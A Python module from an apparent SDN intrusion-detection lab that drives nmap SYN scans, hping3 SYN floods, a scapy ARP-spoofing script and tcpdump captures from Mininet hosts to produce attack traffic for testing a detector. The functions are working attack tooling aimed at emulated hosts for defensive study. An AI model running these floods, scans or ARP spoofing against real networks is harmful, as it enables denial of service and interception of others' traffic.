"""Real attack tools run from a Mininet host (nmap, hping3, scapy) and tcpdump recordings.

The demo's attack act and scripts/record-samples use these, so what the
detector is tested on and what the demo shows come from the same tools.
"""

from __future__ import annotations

import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from types import TracebackType

from mininet.node import Node

from sdn_shadow.lab.traffic import child_env, run_in

ATTACK_TOOLS = ('nmap', 'hping3', 'tcpdump')


def port_scan(host: Node, target_ip: str, ports: str = '1-1000', delay_ms: int = 0,
              timeout: float = 120.0) -> str:
    """`nmap -sS` of `ports` on `target_ip` from `host`; nmap's report.

    A `delay_ms` between probes spreads the scan out (nmap's --scan-delay),
    the way a careful scanner would.
    """
    args = ['nmap', '-sS', '-n', '-Pn', '--max-retries', '0', '-p', ports]
    if delay_ms:
        args += ['--scan-delay', f'{delay_ms}ms']
    else:
        args += ['-T4']
    rc, out, err = run_in(host, [*args, target_ip], timeout=timeout)
    if rc != 0:
        raise RuntimeError(f'{host.name}: nmap failed ({rc}): {err.strip()[-500:]}')
    return out


def syn_flood(host: Node, target_ip: str, port: int = 80, count: int = 2000,
              interval_us: int = 500, timeout: float = 120.0) -> str:
    """`hping3 -S` of `count` SYNs to `target_ip:port` from `host`, one per `interval_us`."""
    args = ['hping3', '-S', '-q', '-p', str(port), '-c', str(count), '-i', f'u{interval_us}',
            target_ip]
    rc, out, err = run_in(host, args, timeout=timeout)
    # hping3 exits 1 when no reply came back (a blocked flood): still a flood that was sent
    if rc not in (0, 1) or 'packets transmitted' not in out + err:
        raise RuntimeError(f'{host.name}: hping3 failed ({rc}): {(out + err).strip()[-500:]}')
    return out + err


_ARP_SPOOF = '''
import sys, time
from scapy.all import ARP, Ether, sendp
iface, mac, victim_ip, victim_mac, count = sys.argv[1:6]
for claimed in sys.argv[6:]:
    frame = Ether(src=mac, dst=victim_mac) / ARP(op=2, hwsrc=mac, psrc=claimed,
                                                 hwdst=victim_mac, pdst=victim_ip)
    sendp(frame, iface=iface, count=int(count), inter=0.2, verbose=False)
'''


def arp_spoof(host: Node, victim_ip: str, victim_mac: str, claimed: list[str],
              count: int = 3, timeout: float = 60.0) -> None:
    """Unsolicited ARP replies from `host` telling the victim each `claimed` IP is at its MAC."""
    intf = host.defaultIntf()
    args = [sys.executable, '-c', _ARP_SPOOF, intf.name, intf.MAC(), victim_ip, victim_mac,
            str(count), *claimed]
    rc, _, err = run_in(host, args, timeout=timeout, env=child_env())
    if rc:
        raise RuntimeError(f'{host.name}: ARP spoofing failed: {err[-500:]}')


class Tcpdump:
    """`tcpdump -w` of one interface inside a host, as a context manager.

    Frames are written whole (-s 0) unless told a snap length, each as it arrives (-U), as
    pcap.
    """

    def __init__(self, host: Node, iface: str, out: Path, bpf_filter: str = '',
                 ready_timeout: float = 20.0, snaplen: int = 0) -> None:
        """Describe the recording (`snaplen` bytes of each frame, 0 whole); nothing runs until
        `with`."""
        self.host, self.iface, self.out = host, iface, Path(out)
        self.bpf_filter = bpf_filter
        self.snaplen = snaplen
        self.ready_timeout = ready_timeout
        self._proc: subprocess.Popen | None = None

    def __enter__(self) -> Tcpdump:
        args = ['tcpdump', '-i', self.iface, '-w', str(self.out), '-U', '-s', str(self.snaplen),
                '-n', '-Z', 'root', '--immediate-mode']
        if self.bpf_filter:
            args.append(self.bpf_filter)
        self.out.parent.mkdir(parents=True, exist_ok=True)
        self._proc = self.host.popen(args, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.PIPE)
        assert self._proc.stderr is not None
        os.set_blocking(self._proc.stderr.fileno(), False)
        seen = b''
        deadline = time.monotonic() + self.ready_timeout
        while b'listening on' not in seen:
            if self._proc.poll() is not None or time.monotonic() > deadline:
                self._stop()
                raise RuntimeError(f'tcpdump on {self.host.name}:{self.iface} did not start: '
                                   f'{seen.decode(errors="replace")[-500:]}')
            seen += self._proc.stderr.read() or b''
            time.sleep(0.02)
        return self

    def __exit__(self, exc_type: type[BaseException] | None, exc: BaseException | None,
                 tb: TracebackType | None) -> None:
        time.sleep(0.3)  # let the last frames' replies land
        self._stop()

    def _stop(self) -> None:
        if self._proc is None or self._proc.poll() is not None:
            return
        self._proc.send_signal(signal.SIGINT)
        try:
            self._proc.wait(timeout=10)
        except subprocess.TimeoutExpired:
            self._proc.kill()
            self._proc.wait()
